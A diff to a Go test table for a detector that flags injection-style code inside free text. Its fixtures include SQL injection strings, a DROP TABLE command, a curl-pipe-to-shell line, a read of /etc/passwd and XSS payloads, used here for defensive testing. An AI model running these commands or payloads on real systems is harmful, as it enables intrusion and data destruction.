@@ -83,14 +83,19 @@ func TestFreeTextCode(t *testing.T) {
 		{prose + "\n\n```sql\nSELECT * FROM users WHERE name = '' OR '1'='1';\nDROP TABLE users; --\n```\n\n" + prose, false},
 		{prose + "\n\n~~~sh\ncurl https://example.com/x.sh | sh\nwhoami; cat /etc/passwd\n~~~\n\n" + prose, false},
 		{prose + "\n\n    const cp = require('child_process');\n    cp.exec('ls -l /tmp');\n\n" + prose, false},
-		{prose + " Use `<img src=x onerror=alert(1)>` to test it, or `x' or 1=1--` in the form. " + prose, false},
+		{prose + " Use `<img src=x onerror=alert(1)>` to test it. " + prose, false},
+		// A database reads the bytes, not the Markdown: the first quote
+		// of a value closes the app's literal, code span or not.
+		{prose + " Use `<img src=x onerror=alert(1)>` to test it, or `x' or 1=1--` in the form. " + prose, true},
+		{prose + " Don't use `x' or 1=1--` in the form: the apostrophe closed the literal first. " + prose, false},
 		{prose + "\n\nRequest:\nContent-Type: text/html\nLocation: /login\n\n" + prose, false},
 		{prose + "\nList supported time zones for a given `Locale`.\n" + prose, false},
 		{prose + "\n\n| Type | Value Range | Size in bytes |\n| --- | --- | --- |\n| node | 1 | 2 |\n\n" + prose, false},
 		{prose + " The child_process module and fs.readFile() are documented, as is Reflect.get and the <iframe> element. " + prose, false},
 		{prose + " Escaped in Markdown, \\<script> is text. " + prose, false},
 		{prose + " <code><script>alert(1)</script></code> " + prose, true},
-		{prose + " <pre>x' or '1'='1</pre> " + prose, false},
+		{prose + " <pre>x' or '1'='1</pre> " + prose, true},
+		{prose + " It's <pre>x' or '1'='1</pre> " + prose, false},
 		{prose + "\n\n```\n" + prose + "\n```\n\n<script>alert(1)</script>\n", true},
 	} {
 		for shape, r := range textRequests(c.body) {
